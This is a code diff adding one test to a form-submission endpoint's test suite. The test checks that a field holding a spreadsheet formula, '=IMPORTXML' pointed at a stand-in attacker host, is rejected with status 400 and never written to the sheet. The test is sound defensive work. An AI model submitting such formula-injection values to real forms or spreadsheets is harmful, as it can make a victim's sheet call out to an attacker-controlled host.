@@ -201,6 +201,20 @@ describe("POST /f/{formKey}", () => {
   });
 
 
+  it("never writes a formula, also on a sheet that enters strings as typed", async () => {
+    const { setSheetSettings } = await import("@/db/queries/sheets");
+    const { publishSheet } = await import("@/lib/sheets/sheet-record");
+    await publishSheet(await setSheetSettings({ id: sheetId, userId: owner.id, settings: { userEnteredWrites: true } }));
+    try {
+      const key = await formKey();
+      const res = await post(key, { name: '=IMPORTXML("https://evil.example.net","//a")' }, { accept: "application/json" });
+      expect(res.status).toBe(400);
+      expect((await rows()).map((r) => String(r.name))).not.toContain('=IMPORTXML("https://evil.example.net","//a")');
+    } finally {
+      await publishSheet(await setSheetSettings({ id: sheetId, userId: owner.id, settings: { userEnteredWrites: false } }));
+    }
+  });
+
   it("answers 405 to other methods", async () => {
     const { PUT } = await import("./route");
     const res = await callRoute(PUT, { method: "PUT", path: "/f/shf_x", params: { formKey: "shf_x" } });
